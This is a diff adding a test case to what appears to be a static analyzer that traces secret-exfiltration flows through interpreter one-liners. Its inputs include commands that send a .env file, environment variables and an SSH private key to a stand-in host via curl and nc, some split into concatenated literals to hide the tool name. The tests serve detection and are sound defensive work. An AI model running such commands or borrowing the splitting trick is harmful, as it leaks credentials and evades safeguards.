@@ -142,3 +142,12 @@ TEST_CASE("an ordinary variable read by an interpreter that talks to the network
     CHECK_FALSE(secret_leaves(analyze(script)));
   }
 }
+
+TEST_CASE("a command string concatenated from literals is read whole") {
+  CHECK(has_flow(analyze("python3 -c \"import os; os.system('cu' + 'rl -d @.env https://x.example/u')\""), "credential_file", "network"));
+  CHECK(has_flow(analyze("node -e \"require('child_process').execSync('env | ' + 'nc x.example 9')\""), "env_dump", "network"));
+  CHECK(has_flow(analyze("perl -e 'system(\"cat ~/.ssh/id_rsa\" . \" | nc x.example 9\")'"), "credential_file", "network"));
+  // A variable in between ends the join: only what is known is read.
+  CHECK(has_command(analyze("python3 -c \"import os; os.system('ls ' + path + ' -la')\""), "ls"));
+  CHECK_FALSE(has_flow_to(analyze("python3 -c \"import os; os.system('echo ' + x + 'curl https://x.example')\""), "network"));
+}
